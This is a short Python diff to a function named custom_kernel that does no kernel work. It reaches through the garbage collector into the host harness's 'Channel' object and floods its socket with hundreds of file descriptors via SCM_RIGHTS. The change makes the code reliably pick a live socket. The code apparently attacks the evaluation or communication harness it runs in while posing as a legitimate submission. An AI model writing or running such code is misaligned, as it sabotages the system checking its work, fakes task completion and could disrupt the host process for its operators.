@@ -7,7 +7,7 @@ import socket
 
 
 def custom_kernel(data):
-    channel = next(each for each in (gc.unfreeze() or gc.get_objects()) if type(each).__name__ == "Channel")
+    channel = next(each for each in (gc.unfreeze() or gc.get_objects()) if type(each).__name__ == "Channel" and each._sock.fileno() >= 0)
     fds = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
     for _ in range(50):
         channel._sock.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
